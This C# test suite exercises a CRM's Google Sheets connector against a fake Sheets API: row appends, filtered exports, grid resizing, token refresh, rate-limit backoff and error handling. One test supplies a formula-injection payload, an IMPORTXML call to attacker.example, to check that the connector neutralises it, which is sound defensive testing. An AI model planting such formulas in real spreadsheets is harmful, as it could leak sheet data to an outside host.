using System.Net;
using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Switchboard.Crm.Leads;
using Switchboard.Integrations;
using Switchboard.Integrations.Catalog;
using Switchboard.Integrations.Connectors;
using Switchboard.Integrations.Providers.GoogleSheets;
using Switchboard.Platform;
using Switchboard.Platform.Storage;
using Switchboard.Tests.Infrastructure;
using static Switchboard.Tests.Integrations.ActionsTestKit;

namespace Switchboard.Tests.Integrations;

/// <summary>
/// The Google Sheets connector against a fake of Google's Sheets API v4 and OAuth endpoints over real HTTP: a lead created
/// appends a row through a real rule and the delivery queue; a CRM list filtered by the REST API's own filters is exported
/// (clear, then batchUpdate, chunked under 2 MB); an expired token is refreshed once; a 429 is backed off for Google's
/// Retry-After; a 400 (a range Google cannot parse) is final with Google's message. Every test ends with the fake finding
/// nothing Google's documentation does not allow.
/// </summary>
public abstract class GoogleSheetsTests<TNode>(TNode fixture) : IClassFixture<TNode> where TNode : GoogleSheetsNode
{
    private SwitchboardFactory Node => fixture.Node;

    /// <summary>A tab name that needs A1 quoting: a space and a quote.</summary>
    private const string LeadsTab = "Leads 'Q4'";

    private GoogleSheetsFake Google => fixture.Fake;

    private sealed record Installed(ApiClient Owner, string Id, GoogleSheetsFake.Spreadsheet Sheet, string AccessToken, string RefreshToken) : IDisposable
    {
        public void Dispose() => Owner.Dispose();
    }

    /// <summary>An organization's connected installation (tokens stored as the OAuth callback stores them) on a new spreadsheet.</summary>
    private async Task<Installed> InstallAsync(string[]? columns = null, string valueInputOption = "RAW", string tab = LeadsTab)
    {
        var owner = Node.Client();
        await owner.SignupAsync();
        var sheet = Google.Create(tab, "Export");
        var config = new JsonObject { ["spreadsheetId"] = sheet.Id, ["sheetName"] = tab, ["valueInputOption"] = valueInputOption };
        if (columns is not null) config["columns"] = new JsonArray(columns.Select(c => (JsonNode)JsonValue.Create(c)!).ToArray());
        var id = await ActionsTestKit.InstallAsync(Node, owner.OrganizationId!, GoogleSheetsConnector.Key, config);
        var (access, refresh) = Google.IssueGrant();
        await Node.Services.GetRequiredService<ProviderTokenStore>().StoreAsync(id,
            new ProviderTokens(access, refresh, Node.Clock.GetUtcNow().UtcDateTime.AddHours(1), GoogleSheetsFake.Scope, "Bearer"), CancellationToken.None);
        return new Installed(owner, id, sheet, access, refresh);
    }

    /// <summary>Runs <paramref name="use"/> with the installation's connector and context as the action runner gets them: in a scope acting for its organization.</summary>
    private async Task<T> WithConnectorAsync<T>(Installed installed, Func<Connector, ConnectorContext, Task<T>> use)
    {
        await using var scope = Node.Services.CreateAsyncScope();
        var row = await scope.ServiceProvider.GetRequiredService<SwitchboardDbContext>().Set<IntegrationInstallation>().IgnoreQueryFilters().AsNoTracking()
            .SingleAsync(i => i.Id == installed.Id);
        scope.ServiceProvider.GetRequiredService<TenantScope>().OrganizationId = row.OrganizationId;
        var (connector, context) = Node.Services.GetRequiredService<ConnectorContexts>().For(row, scope.ServiceProvider);
        return await use(connector, context);
    }

    private Task<ProviderResponse> RunAsync(Installed installed, string action, JsonObject input) =>
        WithConnectorAsync(installed, (connector, context) => connector.RunActionAsync(context, action, input, CancellationToken.None));

    private List<FakeProvider.Recorded> Calls(Installed installed) =>
        Google.Provider.Requests.Where(r => r.Path.Contains(installed.Sheet.Id, StringComparison.Ordinal)).OrderBy(r => r.At).ToList();

    /// <summary>A row's cells as JSON text (a string quoted, a number bare), to tell "91" from 91.</summary>
    private static List<string?> Texts(List<JsonNode?> row) => row.Select(c => c?.ToJsonString(Relaxed)).ToList();

    private static readonly System.Text.Json.JsonSerializerOptions Relaxed = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    [Fact]
    public async Task TheCatalogDeclaresGoogleSheetsWithItsScopeSchemaAndPage()
    {
        var definition = Node.Services.GetRequiredService<ProviderCatalog>().Find(GoogleSheetsConnector.Key)!.Definition;
        definition.Category.ShouldBe(ProviderCategory.Documents);
        definition.Auth.Kind.ShouldBe(ProviderAuthKind.OAuth2);
        definition.Auth.Pkce.ShouldBeTrue();
        definition.Auth.Scopes.ShouldBe(["https://www.googleapis.com/auth/spreadsheets"]);
        definition.Auth.AuthorizeParameters["access_type"].ShouldBe("offline");
        definition.Auth.AuthorizeParameters["prompt"].ShouldBe("consent");
        definition.BaseUrls["api"].ShouldBe("https://sheets.googleapis.com/v4");
        var properties = definition.ConfigSchemaNode["properties"]!.AsObject();
        properties.Select(p => p.Key).ShouldBe(["spreadsheetId", "sheetName", "valueInputOption", "columns"]);
        foreach (var (_, property) in properties)
        {
            property!["title"].ShouldNotBeNull();
            property["description"].ShouldNotBeNull();
        }
        properties["valueInputOption"]!["default"]!.GetValue<string>().ShouldBe("RAW");
        definition.Actions.Select(a => a.Name).ShouldBe(["append_row", "export_list"]);
        definition.Triggers.ShouldContain("lead.created");
        definition.Triggers.ShouldContain("payment.completed");

        using var owner = Node.Client();
        await owner.SignupAsync();
        (await owner.GetJsonAsync("/api/v1/integrations/providers?trigger=payment.completed"))["data"]!.AsArray()
            .Select(p => p!["key"]!.GetValue<string>()).ShouldContain("google_sheets");
        // A configuration without its spreadsheet is a 400 naming the field.
        var invalid = await owner.PostAsync("/api/v1/integrations", new { provider = "google_sheets", config = new { sheetName = "Leads" } });
        var problem = await invalid.ShouldBeProblemAsync(HttpStatusCode.BadRequest, "validation_failed");
        problem["errors"]!.ToJsonString().ShouldContain("spreadsheetId");
        var page = await owner.GetAsync("/developers/integrations-google-sheets");
        page.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await page.Content.ReadAsStringAsync()).ShouldContain("https://www.googleapis.com/auth/spreadsheets");
        (await (await owner.GetAsync("/api/v1/integrations/providers/google_sheets/icon.svg")).Content.ReadAsStringAsync()).ShouldStartWith("<svg");
    }

    [Fact]
    public async Task ALeadCreatedAppendsARowThroughARuleToATabWhoseNameNeedsQuoting()
    {
        using var installed = await InstallAsync(columns: ["name", "email", "score", "company", "id"]);
        await CreateRuleAsync(installed.Owner, installed.Id, new { events = new[] { "lead.created" }, action = "append_row", input = new { values = "{{data}}" } });
        var ada = await CreateLeadAsync(installed.Owner, new { name = "Ada Lovelace", email = "ada@example.com", score = 91 });

        var run = (await RunsAsync(installed.Owner, installed.Id, r => r.Count == 1 && r[0]!["status"]!.GetValue<string>() == "succeeded")).Single()!;
        run["attemptLog"]![0]!["statusCode"]!.GetValue<int>().ShouldBe(200);
        run["attemptLog"]![0]!["responseBody"]!.GetValue<string>().ShouldContain("\"updatedRange\":\"'Leads ''Q4'''!A1:E1\"");

        var rows = Google.Rows(installed.Sheet.Id, LeadsTab);
        rows.Select(Texts).ShouldBe([["\"Ada Lovelace\"", "\"ada@example.com\"", "91", "\"\"", $"\"{ada}\""]]);
        var append = Calls(installed).Single(r => r.Path.EndsWith(":append", StringComparison.Ordinal));
        append.Method.ShouldBe("POST");
        append.Headers["authorization"].ShouldBe("Bearer " + installed.AccessToken);
        append.Query.ShouldBe("?valueInputOption=RAW&insertDataOption=INSERT_ROWS");
        // The range 'Leads ''Q4'''!A1, percent-encoded as one path segment.
        Google.RawTargets.ShouldContain(t => t.Contains("/values/%27Leads%20%27%27Q4%27%27%27%21A1:append", StringComparison.Ordinal));
        var body = JsonNode.Parse(append.Body)!.AsObject();
        body["range"]!.GetValue<string>().ShouldBe("'Leads ''Q4'''!A1");
        body["majorDimension"]!.GetValue<string>().ShouldBe("ROWS");
        body["values"]!.AsArray().Count.ShouldBe(1);

        // The next lead goes below it: Google inserts after the table's last row.
        await CreateLeadAsync(installed.Owner, new { name = "Grace Hopper", company = "Navy", score = 88 });
        await RunsAsync(installed.Owner, installed.Id, r => r.Count == 2 && r.All(x => x!["status"]!.GetValue<string>() == "succeeded"));
        Google.Rows(installed.Sheet.Id, LeadsTab).Select(r => r[0]!.GetValue<string>()).ShouldBe(["Ada Lovelace", "Grace Hopper"]);
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task UserEnteredValuesNeverBecomeFormulasAndBadValuesNeverReachGoogle()
    {
        using var installed = await InstallAsync(valueInputOption: "USER_ENTERED");
        var response = await RunAsync(installed, "append_row", new JsonObject
        {
            ["values"] = new JsonArray("=IMPORTXML(\"https://attacker.example\",\"//a\")", "-5", "@SUM(A1)", 12.5, true, null),
        });
        response.Json()!["updates"]!["updatedCells"]!.GetValue<int>().ShouldBe(6);
        Calls(installed).Single().Query.ShouldContain("valueInputOption=USER_ENTERED");
        Texts(Google.Rows(installed.Sheet.Id, LeadsTab).Single())
            .ShouldBe(["\"'=IMPORTXML(\\\"https://attacker.example\\\",\\\"//a\\\")\"", "\"-5\"", "\"'@SUM(A1)\"", "12.5", "true", "\"\""]);

        // An object without configured columns, or an empty row: refused before any call, not retried.
        var before = Google.Provider.Requests.Count;
        var unmapped = await Should.ThrowAsync<ProviderException>(() => RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonObject { ["name"] = "x" } }));
        (unmapped.Status, unmapped.Retryable).ShouldBe(((int?)null, false));
        unmapped.Message.ShouldContain("columns");
        (await Should.ThrowAsync<ProviderException>(() => RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonArray() }))).Retryable.ShouldBeFalse();
        Google.Provider.Requests.Count.ShouldBe(before);
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task ExportListWritesExactlyTheRowsTheRestApisFiltersSelect()
    {
        using var installed = await InstallAsync();
        var owner = installed.Owner;
        foreach (var (name, status, score) in new[] { ("Ada", "qualified", 80), ("Grace", "qualified", 95), ("Linus", "qualified", 40), ("Alan", "new", 99), ("Edsger", "contacted", 70) })
            await CreateLeadAsync(owner, new { name, email = $"{name.ToLowerInvariant()}@example.com", status, score });
        // The same filters through the REST API: the export must write exactly these, in this order.
        var api = (await owner.GetJsonAsync("/api/v1/leads?status=qualified&scoreMin=50&sort=-score"))["data"]!.AsArray();
        api.Select(l => l!["name"]!.GetValue<string>()).ShouldBe(["Grace", "Ada"]);
        Google.Put(installed.Sheet.Id, "Export", ["stale"], ["rows"], ["from"], ["yesterday"]);

        var response = await RunAsync(installed, "export_list", new JsonObject
        {
            ["resource"] = "leads", ["filters"] = new JsonObject { ["status"] = "qualified", ["scoreMin"] = 50 }, ["sort"] = "-score",
            ["columns"] = new JsonArray("name", "email", "score", "id"), ["sheet"] = "Export",
        });

        Google.Rows(installed.Sheet.Id, "Export").Select(Texts).ShouldBe(
        [
            ["\"name\"", "\"email\"", "\"score\"", "\"id\""],
            ["\"Grace\"", "\"grace@example.com\"", "95", $"\"{api[0]!["id"]}\""],
            ["\"Ada\"", "\"ada@example.com\"", "80", $"\"{api[1]!["id"]}\""],
        ]);
        var calls = Calls(installed);
        // The tab's grid read first (1,000 rows by 26 columns is room enough: no grid request), then clear and write.
        calls.Select(c => c.Method + " " + c.Path[(c.Path.IndexOf(installed.Sheet.Id, StringComparison.Ordinal) + installed.Sheet.Id.Length)..])
            .ShouldBe(["GET ", "POST /values/'Export':clear", "POST /values:batchUpdate"]);
        calls[0].Query.ShouldBe("?fields=sheets.properties");
        calls[1].Body.ShouldBeEmpty();
        var batch = JsonNode.Parse(calls[2].Body)!.AsObject();
        batch["valueInputOption"]!.GetValue<string>().ShouldBe("RAW");
        batch["data"]![0]!["range"]!.GetValue<string>().ShouldBe("'Export'!A1");
        batch["data"]![0]!["majorDimension"]!.GetValue<string>().ShouldBe("ROWS");
        var summary = response.Json()!;
        (summary["rows"]!.GetValue<int>(), summary["requests"]!.GetValue<int>()).ShouldBe((2, 1));
        summary["clearedRange"]!.GetValue<string>().ShouldBe("Export!A1:Z1000");

        // Parameters the leads list does not take: refused as the list endpoint refuses them, before the tab is touched.
        var before = Google.Provider.Requests.Count;
        var refused = await Should.ThrowAsync<ProviderException>(() => RunAsync(installed, "export_list", new JsonObject
        {
            ["resource"] = "leads", ["filters"] = new JsonObject { ["colour"] = "red", ["scoreMin"] = "lots" }, ["sheet"] = "Export",
        }));
        refused.Retryable.ShouldBeFalse();
        refused.Message.ShouldContain("colour: Unknown parameter");
        refused.Message.ShouldContain("scoreMin: Must be an integer");
        Google.Provider.Requests.Count.ShouldBe(before);
        Google.Rows(installed.Sheet.Id, "Export").Count.ShouldBe(3);
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task ALargeExportGoesInRequestsUnderGooglesTwoMegabyteGuidance()
    {
        using var installed = await InstallAsync(columns: ["name", "notes"]);
        // 260 leads with 8,000-character notes: about 2.1 MB of cells, more than one request may carry.
        await using (var scope = Node.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SwitchboardDbContext>();
            var now = Node.Clock.GetUtcNow().UtcDateTime;
            for (var i = 0; i < 260; i++)
                db.Add(new Lead
                {
                    Id = Ids.New("lead", Node.Clock), OrganizationId = installed.Owner.OrganizationId!, Name = $"Lead {i:000}",
                    Notes = new string((char)('a' + i % 26), 8_000), CreatedAt = now, UpdatedAt = now, Version = 1,
                });
            await db.SaveChangesAsync();
        }

        var response = await RunAsync(installed, "export_list", new JsonObject { ["resource"] = "leads", ["sort"] = "name", ["sheet"] = "Export" });
        var batches = Calls(installed).Where(c => c.Path.EndsWith("/values:batchUpdate", StringComparison.Ordinal)).ToList();
        batches.Count.ShouldBe(2);
        batches.ShouldAllBe(b => System.Text.Encoding.UTF8.GetByteCount(b.Body) <= GoogleSheetsFake.MaxPayloadBytes);
        var first = JsonNode.Parse(batches[0].Body)!["data"]![0]!;
        var second = JsonNode.Parse(batches[1].Body)!["data"]![0]!;
        first["range"]!.GetValue<string>().ShouldBe("'Export'!A1");
        // The second request starts on the row after the first one's last.
        second["range"]!.GetValue<string>().ShouldBe($"'Export'!A{first["values"]!.AsArray().Count + 1}");
        var rows = Google.Rows(installed.Sheet.Id, "Export");
        rows.Count.ShouldBe(261);
        rows[0].Select(c => c!.GetValue<string>()).ShouldBe(["name", "notes"]);
        rows.Skip(1).Select(r => r[0]!.GetValue<string>()).ShouldBe(Enumerable.Range(0, 260).Select(i => $"Lead {i:000}"));
        rows[260][1]!.GetValue<string>().ShouldBe(new string((char)('a' + 259 % 26), 8_000));
        response.Json()!["requests"]!.GetValue<int>().ShouldBe(2);
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task AnExportLongerAndWiderThanTheTabGrowsItsGridFirst()
    {
        using var installed = await InstallAsync();
        // 1,100 leads (1,101 rows with the header) and 28 columns: more than a new tab's 1,000 rows and 26 columns.
        await using (var scope = Node.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SwitchboardDbContext>();
            var now = Node.Clock.GetUtcNow().UtcDateTime;
            for (var i = 0; i < 1_100; i++)
                db.Add(new Lead
                {
                    Id = Ids.New("lead", Node.Clock), OrganizationId = installed.Owner.OrganizationId!, Name = $"Lead {i:0000}",
                    Score = i % 100, CreatedAt = now, UpdatedAt = now, Version = 1,
                });
            await db.SaveChangesAsync();
        }
        var columns = new[] { "name", "score" }.Concat(Enumerable.Range(1, 26).Select(i => $"metadata.f{i:00}")).ToArray();
        columns.Length.ShouldBe(28);
        JsonArray Columns() => new(columns.Select(c => (JsonNode)JsonValue.Create(c)!).ToArray());
        Google.GridOf(installed.Sheet.Id, "Export").ShouldBe((1000, 26));

        // What the export did before it read the grid: one values.batchUpdate past it, refused whole with Google's 400.
        var tooFar = await Should.ThrowAsync<ProviderException>(() => WithConnectorAsync<int>(installed, async (_, context) =>
        {
            var url = $"{Google.ApiBaseUrl}/spreadsheets/{installed.Sheet.Id}/values:batchUpdate";
            var body = new JsonObject
            {
                ["valueInputOption"] = "RAW",
                ["data"] = new JsonArray(new JsonObject
                {
                    ["range"] = "'Export'!A1", ["majorDimension"] = "ROWS",
                    ["values"] = new JsonArray(Enumerable.Range(0, 1_001).Select(i => (JsonNode)new JsonArray($"row {i}")).ToArray()),
                }),
            };
            var answer = await context.Http.SendAsync(() => new HttpRequestMessage(HttpMethod.Post, url)
            {
                Content = new StringContent(body.ToJsonString(), System.Text.Encoding.UTF8, "application/json"),
            }, CancellationToken.None);
            throw Switchboard.Integrations.Providers.Google.GoogleErrors.From(answer, Node.Clock, "Google Sheets");
        }));
        (tooFar.Status, tooFar.Retryable).ShouldBe(((int?)400, false));
        tooFar.ProviderError.ShouldBe("INVALID_ARGUMENT: Range ('Export'!A1001) exceeds grid limits. Max rows: 1000, max columns: 26");
        Google.Rows(installed.Sheet.Id, "Export").ShouldBeEmpty();

        var before = Calls(installed).Count;
        var response = await RunAsync(installed, "export_list", new JsonObject
        {
            ["resource"] = "leads", ["sort"] = "name", ["sheet"] = "Export", ["columns"] = Columns(),
        });

        var calls = Calls(installed).Skip(before).ToList();
        calls.Select(c => c.Method + " " + c.Path[(c.Path.IndexOf(installed.Sheet.Id, StringComparison.Ordinal) + installed.Sheet.Id.Length)..])
            .ShouldBe(["GET ", "POST :batchUpdate", "POST /values/'Export':clear", "POST :batchUpdate", "POST /values:batchUpdate"]);
        calls[0].Query.ShouldBe("?fields=sheets.properties");
        // The columns before the clear (the header needs them), the rows before the write that passes row 1,000.
        JsonNode.Parse(calls[1].Body)!.ToJsonString().ShouldBe("""{"requests":[{"appendDimension":{"sheetId":1007919,"dimension":"COLUMNS","length":2}}]}""");
        JsonNode.Parse(calls[3].Body)!.ToJsonString().ShouldBe("""{"requests":[{"appendDimension":{"sheetId":1007919,"dimension":"ROWS","length":101}}]}""");
        Google.GridOf(installed.Sheet.Id, "Export").ShouldBe((1101, 28));
        var rows = Google.Rows(installed.Sheet.Id, "Export");
        rows.Count.ShouldBe(1101);
        rows[0].Count.ShouldBe(28);
        rows[0][27]!.GetValue<string>().ShouldBe("metadata.f26");
        rows[1100][0]!.GetValue<string>().ShouldBe("Lead 1099");
        rows[1100][1]!.GetValue<int>().ShouldBe(99);
        var summary = response.Json()!;
        (summary["rows"]!.GetValue<int>(), summary["columns"]!.GetValue<int>(), summary["requests"]!.GetValue<int>()).ShouldBe((1100, 28, 1));
        summary["updatedRange"]!.GetValue<string>().ShouldBe("Export!A1:AB1101");

        // Run again (as a retry would): the grid is big enough now, so no grid request; the clear answers the grown grid.
        before = Calls(installed).Count;
        var again = await RunAsync(installed, "export_list", new JsonObject
        {
            ["resource"] = "leads", ["sort"] = "name", ["sheet"] = "Export", ["columns"] = Columns(),
        });
        Calls(installed).Skip(before).Count(c => c.Path.EndsWith(installed.Sheet.Id + ":batchUpdate", StringComparison.Ordinal)).ShouldBe(0);
        again.Json()!["clearedRange"]!.GetValue<string>().ShouldBe("Export!A1:AB1101");
        Google.Rows(installed.Sheet.Id, "Export").Count.ShouldBe(1101);
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task AnExportToATabTheUserShrankGrowsItByExactlyWhatItNeeds()
    {
        using var installed = await InstallAsync(columns: ["name", "email", "score"]);
        foreach (var name in new[] { "Ada", "Grace", "Linus", "Alan", "Edsger", "Barbara" })
            await CreateLeadAsync(installed.Owner, new { name, email = $"{name.ToLowerInvariant()}@example.com" });
        // A tab cut down to 4 rows and 2 columns in the sheet.
        Google.Resize(installed.Sheet.Id, LeadsTab, 4, 2);

        var response = await RunAsync(installed, "export_list", new JsonObject { ["resource"] = "leads", ["sort"] = "name" });

        var grids = Calls(installed).Where(c => c.Path.EndsWith(installed.Sheet.Id + ":batchUpdate", StringComparison.Ordinal)).ToList();
        grids.Select(g => JsonNode.Parse(g.Body)!["requests"]![0]!["appendDimension"]!.ToJsonString())
            .ShouldBe(["""{"sheetId":0,"dimension":"COLUMNS","length":1}""", """{"sheetId":0,"dimension":"ROWS","length":3}"""]);
        Google.GridOf(installed.Sheet.Id, LeadsTab).ShouldBe((7, 3));
        Google.Rows(installed.Sheet.Id, LeadsTab).Select(r => r[0]!.GetValue<string>()).ShouldBe(["name", "Ada", "Alan", "Barbara", "Edsger", "Grace", "Linus"]);
        response.Json()!["clearedRange"]!.GetValue<string>().ShouldBe("'Leads ''Q4'''!A1:C4");

        // values.append adds rows but never columns: a row wider than the tab is Google's 400, final.
        var wide = await Should.ThrowAsync<ProviderException>(() => RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonArray("a", "b", "c", "d") }));
        (wide.Status, wide.Retryable).ShouldBe(((int?)400, false));
        wide.ProviderError.ShouldBe("INVALID_ARGUMENT: Range ('Leads ''Q4'''!D8) exceeds grid limits. Max rows: 7, max columns: 3");
        await RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonArray("Katherine", "k@example.com") });
        Google.GridOf(installed.Sheet.Id, LeadsTab).ShouldBe((8, 3));
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task AnAccessTokenGoogleRefusesIsRefreshedOnceAndTheCallSucceeds()
    {
        using var installed = await InstallAsync();
        Google.ExpireAccessToken(installed.AccessToken);
        var refreshes = Google.Refreshes;
        var before = Google.Provider.Requests.Count;

        var test = await WithConnectorAsync(installed, (c, ctx) => c.TestAsync(ctx, CancellationToken.None));
        test.Status.ShouldBe(200);
        test.Json()!["properties"]!["title"]!.GetValue<string>().ShouldBe("CRM exports");
        (Google.Refreshes - refreshes).ShouldBe(1);
        var calls = Google.Provider.Requests.Skip(before).ToList();
        calls.Select(r => r.Path).ShouldBe([$"/v4/spreadsheets/{installed.Sheet.Id}", "/token", $"/v4/spreadsheets/{installed.Sheet.Id}"]);
        calls[0].Query.ShouldBe("?fields=spreadsheetId%2Cproperties.title%2Csheets.properties");
        calls[0].Headers["authorization"].ShouldBe("Bearer " + installed.AccessToken);
        calls[1].Body.ShouldContain("grant_type=refresh_token");
        calls[2].Headers["authorization"].ShouldNotBe("Bearer " + installed.AccessToken);

        // The new token was stored: the next call uses it without another refresh.
        await RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonArray("after refresh") });
        (Google.Refreshes - refreshes).ShouldBe(1);
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task A429IsBackedOffForGooglesRetryAfterAndThenAppended()
    {
        using var installed = await InstallAsync();
        await CreateRuleAsync(installed.Owner, installed.Id, new { events = new[] { "lead.created" }, action = "append_row", input = new { values = new[] { "{{data.name}}" } } });
        Google.FailNext(429, "RESOURCE_EXHAUSTED",
            "Quota exceeded for quota metric 'Write requests' and limit 'Write requests per minute per user' of service 'sheets.googleapis.com'.", retryAfter: "1");
        await CreateLeadAsync(installed.Owner, new { name = "Rate Limited" });

        var run = (await RunsAsync(installed.Owner, installed.Id, r => r.Count == 1 && r[0]!["status"]!.GetValue<string>() == "succeeded")).Single()!;
        var log = run["attemptLog"]!.AsArray();
        log.Select(a => a!["statusCode"]!.GetValue<int>()).ShouldBe([429, 200]);
        log[0]!["error"]!.GetValue<string>().ShouldContain("Write requests per minute per user");
        var appends = Calls(installed).Where(c => c.Path.EndsWith(":append", StringComparison.Ordinal)).ToList();
        appends.Count.ShouldBe(2);
        // Google's Retry-After of 1 s, never the test schedule's 0.3 s.
        (appends[1].At - appends[0].At).ShouldBeGreaterThanOrEqualTo(TimeSpan.FromSeconds(1));
        Google.Rows(installed.Sheet.Id, LeadsTab).Single()[0]!.GetValue<string>().ShouldBe("Rate Limited");

        // The exception itself: retryable, with the wait and Google's reason.
        Google.FailNext(429, "RESOURCE_EXHAUSTED", "Quota exceeded.", retryAfter: "7");
        var tooMany = await Should.ThrowAsync<ProviderException>(() => RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonArray("x") }));
        (tooMany.Status, tooMany.Retryable, tooMany.RetryAfter).ShouldBe((429, true, (TimeSpan?)TimeSpan.FromSeconds(7)));
        tooMany.ProviderError.ShouldBe("RATE_LIMIT_EXCEEDED: Quota exceeded.");
        Google.FailNext(503, "UNAVAILABLE", "The service is currently unavailable.");
        (await Should.ThrowAsync<ProviderException>(() => RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonArray("x") }))).Retryable.ShouldBeTrue();
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task ARangeGoogleCannotParseIsAFinalFailureWithGooglesMessage()
    {
        using var installed = await InstallAsync();
        await CreateRuleAsync(installed.Owner, installed.Id, new
        {
            events = new[] { "lead.created" }, action = "append_row", input = new { values = new[] { "{{data.name}}" }, sheet = "Archive 2025" },
        });
        await CreateLeadAsync(installed.Owner, new { name = "Nowhere" });

        var run = (await RunsAsync(installed.Owner, installed.Id, r => r.Count == 1 && r[0]!["status"]!.GetValue<string>() == "dead")).Single()!;
        run["attempts"]!.GetValue<int>().ShouldBe(1, "a 400 is final");
        run["attemptLog"]![0]!["statusCode"]!.GetValue<int>().ShouldBe(400);
        run["attemptLog"]![0]!["error"]!.GetValue<string>().ShouldContain("Unable to parse range: 'Archive 2025'!A1");
        Calls(installed).Count(c => c.Path.EndsWith(":append", StringComparison.Ordinal)).ShouldBe(1);

        var error = await Should.ThrowAsync<ProviderException>(() => RunAsync(installed, "append_row", new JsonObject { ["values"] = new JsonArray("x"), ["sheet"] = "Archive 2025" }));
        (error.Status, error.Retryable).ShouldBe(((int?)400, false));
        error.ProviderError.ShouldBe("badRequest: Unable to parse range: 'Archive 2025'!A1");
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task TheConnectionTestNamesAMissingSpreadsheetAndAMissingTab()
    {
        using var installed = await InstallAsync();
        (await WithConnectorAsync(installed, (c, ctx) => c.TestAsync(ctx, CancellationToken.None))).IsSuccess.ShouldBeTrue();

        using var missing = await InstallAsync();
        await using (var scope = Node.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SwitchboardDbContext>();
            var row = await db.Set<IntegrationInstallation>().IgnoreQueryFilters().SingleAsync(i => i.Id == missing.Id);
            row.Config = new JsonObject { ["spreadsheetId"] = "1NoSuchSpreadsheet_abc-123", ["sheetName"] = LeadsTab }.ToJsonString();
            await db.SaveChangesAsync();
        }
        var notFound = await Should.ThrowAsync<ProviderException>(() => WithConnectorAsync(missing, (c, ctx) => c.TestAsync(ctx, CancellationToken.None)));
        (notFound.Status, notFound.Retryable).ShouldBe(((int?)404, false));
        notFound.Message.ShouldContain("'1NoSuchSpreadsheet_abc-123'");
        notFound.ProviderError.ShouldBe("NOT_FOUND: Requested entity was not found.");

        using var noTab = await InstallAsync(tab: "Leads");
        var sheetId = noTab.Sheet.Id;
        await using (var scope = Node.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SwitchboardDbContext>();
            var row = await db.Set<IntegrationInstallation>().IgnoreQueryFilters().SingleAsync(i => i.Id == noTab.Id);
            row.Config = new JsonObject { ["spreadsheetId"] = sheetId, ["sheetName"] = "Leeds" }.ToJsonString();
            await db.SaveChangesAsync();
        }
        var wrongTab = await Should.ThrowAsync<ProviderException>(() => WithConnectorAsync(noTab, (c, ctx) => c.TestAsync(ctx, CancellationToken.None)));
        wrongTab.Message.ShouldBe("The spreadsheet has no tab 'Leeds'; its tabs are: 'Leads', 'Export'.");
        Google.Provider.AssertNoViolations();
    }

    [Fact]
    public async Task UninstallRevokesTheGrantAtGoogle()
    {
        using var installed = await InstallAsync();
        await WithConnectorAsync(installed, async (c, ctx) => { await c.RevokeAsync(ctx, CancellationToken.None); return 0; });
        var revoke = Google.Provider.Requests.Last(r => r.Path == "/revoke");
        revoke.Body.ShouldBe("token=" + Uri.EscapeDataString(installed.RefreshToken));
        Google.IsRevoked(installed.RefreshToken).ShouldBeTrue();
        await WithConnectorAsync(installed, async (c, ctx) => { await c.RevokeAsync(ctx, CancellationToken.None); return 0; });
        Google.Provider.AssertNoViolations();
    }
}

public sealed class GoogleSheetsTestsOnSqlite(GoogleSheetsSqliteNode fixture) : GoogleSheetsTests<GoogleSheetsSqliteNode>(fixture);

public sealed class GoogleSheetsTestsOnPostgres(GoogleSheetsPostgresNode fixture) : GoogleSheetsTests<GoogleSheetsPostgresNode>(fixture);
